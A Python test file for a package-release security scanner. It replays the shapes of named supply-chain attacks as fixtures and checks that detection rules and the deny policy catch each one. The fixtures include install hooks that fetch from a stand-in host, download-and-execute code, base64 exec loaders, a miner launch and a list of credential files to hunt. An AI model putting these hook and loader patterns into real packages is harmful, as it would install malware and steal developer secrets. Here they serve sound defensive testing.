"""Inert replays of what past attacks shipped: each is noticed, and the policy stops it while it is young.

Only the shape of the attacks is here: names, places, calls. No address leads anywhere, nothing is run.
"""

import json
from collections.abc import Mapping
from datetime import UTC, datetime

import pytest
from tests.simulators.archives import Files, contents, packed

from seawall.adapters.disk.shipped import policy_text, schema_text
from seawall.kernel.decision import Outcome
from seawall.kernel.intake import Intake
from seawall.kernel.policy import facts as asked
from seawall.kernel.policy.engine import decide, load_policy
from seawall.kernel.policy.facts import Facts, Question
from seawall.kernel.release_diff import Declared, ReleaseDiff
from seawall.kernel.rule import judge
from seawall.rules.releases import RELEASES

WHEEL, NPM, SDIST = "thing-1.0.1-py3-none-any.whl", "thing-1.0.1.tgz", "thing-1.0.1.tar.gz"
NOW = datetime(2026, 1, 1, tzinfo=UTC)


def package(**more: object) -> str:
    return json.dumps({"name": "thing", "version": "1.0.1", "main": "index.js", **more})


INDEX: dict[str, str | bytes] = {"package.json": package(), "index.js": "module.exports = x => x + 1;\n"}
MODULE: dict[str, str | bytes] = {"thing/__init__.py": "def f(x):\n    return x + 1\n"}
NAMES = ";".join(f"var _0x{n:04x}=_0x{n + 500:04x}(0x{n:x})" for n in range(60))
BUNDLE = (
    "const e=require('child_process');(()=>{e.exec('trufflehog filesystem /')})();"
    + "function a(b){return b}" * 9000
)
SPOTS = "['.npmrc','.aws/credentials','id_rsa','NPM_TOKEN','.docker/config.json']"

REPLAYS: dict[str, tuple[str, Files | None, Files, Files | None, set[str]]] = {
    # name: (file, before, now, source, what has to be noticed)
    "plain-crypto-js 4.2.1 (axios, March 2026)": (
        NPM,
        INDEX,
        {
            "package.json": package(scripts={"postinstall": "node setup.js"}),
            "index.js": INDEX["index.js"],
            "setup.js": "const k='x';const d=s=>Buffer.from(s,'base64').toString();"
            "require(d('Y2hpbGRfcHJvY2Vzcw')).execSync('curl http://files.example');eval(d(k))",
        },
        None,
        {"releases/install-hook", "releases/decoded-code"},
    ),
    "litellm 1.82.8 (March 2026)": (
        WHEEL,
        MODULE,
        {**MODULE, "thing_init.pth": "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"},
        None,
        {"releases/startup-hook", "releases/decoded-code"},
    ),
    "litellm 1.82.7 (March 2026)": (
        WHEEL,
        MODULE,
        {
            **MODULE,
            "thing/proxy/server.py": "import base64, subprocess, sys\ncode = base64.b64decode('cHJpbnQoMSk=')\n"
            "subprocess.run([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"eA==\"))'])\n",
        },
        MODULE,
        {"releases/decoded-code", "releases/not-in-source"},
    ),
    "ultralytics 8.3.41 (December 2024)": (
        WHEEL,
        {**MODULE, "thing/d.py": "import subprocess, requests\n\n\ndef get(u):\n    requests.get(u)\n    subprocess.run(u)\n"},
        {**MODULE, "thing/d.py": "import subprocess, requests\n\n\ndef get(u):\n    requests.get(u)\n    subprocess.run(u)\n    subprocess.run('/tmp/miner')\n"},
        {**MODULE, "thing/d.py": "import subprocess, requests\n\n\ndef get(u):\n    requests.get(u)\n    subprocess.run(u)\n"},
        {"releases/not-in-source"},
    ),
    "telnyx 4.87.1 (March 2026)": (
        WHEEL,
        MODULE,
        {
            **MODULE,
            "thing/_client.py": "import urllib.request, subprocess\n\n\ndef setup():\n    data = urllib.request.urlopen('http://files.example/a.wav').read()\n"
            "    subprocess.Popen(['python', '-c', data])\n\n\nsetup()\n",
        },
        None,
        {"releases/import-behaviour"},
    ),
    "mistralai 2.4.6 (May 2026)": (
        WHEEL,
        MODULE,
        {"thing/__init__.py": "import subprocess\nsubprocess.Popen(['curl', '-k', 'http://files.example/t.pyz'])\n"},
        None,
        {"releases/import-behaviour"},
    ),
    "Shai-Hulud (September 2025)": (
        NPM,
        INDEX,
        {
            "package.json": package(scripts={"postinstall": "node bundle.js"}),
            "index.js": INDEX["index.js"],
            "bundle.js": BUNDLE + f"const p={SPOTS};",
        },
        None,
        {"releases/install-hook", "releases/credential-hunting", "releases/import-behaviour"},
    ),
    "Sha1-Hulud (November 2025)": (
        NPM,
        INDEX,
        {
            "package.json": package(scripts={"preinstall": "node setup_bun.js"}),
            "index.js": INDEX["index.js"],
            "setup_bun.js": "require('child_process').spawn('bun', ['bun_environment.js'])",
            "bun_environment.js": NAMES,
        },
        None,
        {"releases/install-hook", "releases/obfuscated"},
    ),
    "TanStack (May 2026)": (
        NPM,
        INDEX,
        {
            "package.json": package(optionalDependencies={"@thing/setup": "github:thing/router#79ac49ee"}),
            "index.js": INDEX["index.js"],
            "router_init.js": NAMES + "x" * 2_300_000,
        },
        None,
        {"releases/direct-dependency", "releases/obfuscated", "releases/size-jump"},
    ),
    "chalk and debug (September 2025)": (
        NPM,
        INDEX,
        {**INDEX, "index.js": str(INDEX["index.js"]) + NAMES},
        None,
        {"releases/obfuscated"},
    ),
    "AsyncAPI (July 2026)": (
        NPM,
        INDEX,
        {**INDEX, "index.js": str(INDEX["index.js"]).strip() + " " * 700 + "require('child_process').spawn('node')"},
        None,
        {"releases/obfuscated", "releases/import-behaviour"},
    ),
    "node-ipc (May 2026)": (
        NPM,
        INDEX,
        {**INDEX, "index.cjs": NAMES + ";require('dns').resolveTxt('files.example')"},
        None,
        {"releases/obfuscated", "releases/new-ability"},
    ),
    "GlassWorm (October 2025)": (
        NPM,
        INDEX,
        {**INDEX, "index.js": "eval(Buffer.from([...`" + "".join(chr(0xFE00 + n % 16) for n in range(300)) + "`]).toString())"},
        None,
        {"releases/hidden-text", "releases/decoded-code"},
    ),
    "Nx s1ngularity (August 2025)": (
        NPM,
        INDEX,
        {
            "package.json": package(scripts={"postinstall": "node telemetry.js"}),
            "index.js": INDEX["index.js"],
            "telemetry.js": "const {spawnSync}=require('child_process');"
            "spawnSync('claude',['--dangerously-skip-permissions','-p','list'])",
        },
        None,
        {"releases/install-hook", "releases/credential-hunting"},
    ),
    "eslint-config-prettier 8.10.1 (July 2025)": (
        NPM,
        INDEX,
        {
            "package.json": package(scripts={"install": "node install.js"}),
            "index.js": INDEX["index.js"],
            "install.js": "require('child_process').spawn('rundll32', ['node-gyp.dll,main'])",
            "node-gyp.dll": b"MZ" + bytes(200),
        },
        None,
        {"releases/install-hook", "releases/native-code"},
    ),
    "keyv 6.0.0 (August 2026)": (
        NPM,
        INDEX,
        {
            "package.json": package(scripts={"preinstall": "node setup.mjs"}),
            "index.js": INDEX["index.js"],
            "setup.mjs": "await fetch('http://files.example')",
            ".claude/settings.json": '{"hooks": {"SessionStart": []}}',
        },
        None,
        {"releases/install-hook", "releases/startup-file"},
    ),
    "event-stream's flatmap-stream (2018)": (
        NPM,
        INDEX,
        {
            **INDEX,
            "index.js": "var r=require,d=r('crypto').createDecipher('aes256',process.env.npm_package_description);"
            "var m=new module.constructor;m.paths=module.paths;m._compile(d.update(x,'hex','utf8'),'');",
        },
        None,
        {"releases/decoded-code"},
    ),
    "bittensor-wallet 4.0.2 (March 2026)": (
        SDIST,
        {"setup.py": "from setuptools import setup\nsetup()\n"},
        {"setup.py": "import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('http://files.example')\nsetup()\n"},
        None,
        {"releases/install-hook"},
    ),
}  # fmt: skip


def noticed(filename: str, before: Files | None, now: Files, source: Files | None) -> set[str]:
    ecosystem = "npm" if filename.endswith(".tgz") else "PyPI"

    def made(files: Mapping[str, str | bytes] | None, name: str, version: str) -> object:
        return contents(ecosystem, name, packed(name, files, "thing", version)) if files is not None else None

    diff = ReleaseDiff(
        Declared(ecosystem, "thing", "1.0.1"),
        made(now, filename, "1.0.1"),  # type: ignore[arg-type]
        made(before, filename, "1.0.0"),  # type: ignore[arg-type]
        made(source, SDIST, "1.0.1"),  # type: ignore[arg-type]
        "1.0.0" if before else "",
    )
    assert not diff.new.faults
    return {item.rule for item in judge(RELEASES, Intake((), NOW, diffs=(diff,)))}


@pytest.mark.parametrize("name", REPLAYS)
def test_what_the_attack_shipped_is_noticed(name: str) -> None:
    filename, before, now, source, expected = REPLAYS[name]
    assert expected <= noticed(filename, before, now, source)


@pytest.mark.parametrize("name", REPLAYS)
def test_the_release_before_says_nothing(name: str) -> None:
    filename, before, _, _, _ = REPLAYS[name]
    assert before is not None
    assert noticed(filename, before, before, None) == set()


@pytest.mark.parametrize("name", REPLAYS)
def test_it_is_stopped_while_it_is_young(name: str) -> None:
    filename, before, now, source, _ = REPLAYS[name]
    signals = noticed(filename, before, now, source)
    policy = load_policy("default", policy_text("default"), schema_text())
    facts = Facts(
        malware_checked=True,
        vulnerabilities_checked=True,
        signals=frozenset({*signals, "packages/young-release"}),
        exempt_from_cooldown=True,
        age_days=0,
        age_hours=5,
    )
    thing = asked.package("pkg:npm/thing@1.0.1", "npm", "thing", "1.0.1")
    answer = decide(policy, Question(facts, "fetch", thing))
    # A wheel unlike its source is looked at by a person; everything else is denied outright.
    mild = signals == {"releases/not-in-source"}
    assert answer.outcome is (Outcome.WARN if mild else Outcome.DENY)
    by = "default/young-and-unlike-its-source" if mild else "default/looks-like-a-takeover"
    assert by in {item.policy for item in answer.decided_by}


OLD_TOO = {
    "plain-crypto-js 4.2.1 (axios, March 2026)", "litellm 1.82.8 (March 2026)", "Shai-Hulud (September 2025)",
    "Sha1-Hulud (November 2025)", "Nx s1ngularity (August 2025)", "GlassWorm (October 2025)",
}  # fmt: skip


@pytest.mark.parametrize("exempt", [False, True])
@pytest.mark.parametrize("name", REPLAYS)
def test_what_is_stopped_at_any_age(name: str, *, exempt: bool) -> None:
    """What it starts by itself is hidden or hunts for credentials. A named exemption lets it in."""
    filename, before, now, source, _ = REPLAYS[name]
    policy = load_policy("default", policy_text("default"), schema_text())
    facts = Facts(
        malware_checked=True,
        vulnerabilities_checked=True,
        signals=frozenset(noticed(filename, before, now, source)),
        exempt_from_cooldown=exempt,
        age_days=60,
        age_hours=1440,
    )
    thing = asked.package("pkg:npm/thing@1.0.1", "npm", "thing", "1.0.1")
    answer = decide(policy, Question(facts, "fetch", thing))
    assert (answer.outcome is Outcome.DENY) is (name in OLD_TOO and not exempt)
    if answer.outcome is Outcome.DENY:
        assert [item.policy for item in answer.decided_by] == ["default/hides-what-it-runs"]


RED = {"litellm 1.82.8 (March 2026)", "litellm 1.82.7 (March 2026)", "GlassWorm (October 2025)"}


@pytest.mark.parametrize("name", sorted(RED))
def test_what_is_red_by_itself_speaks_about_a_first_release(name: str) -> None:
    filename, _, now, _, _ = REPLAYS[name]
    assert noticed(filename, None, now, None)
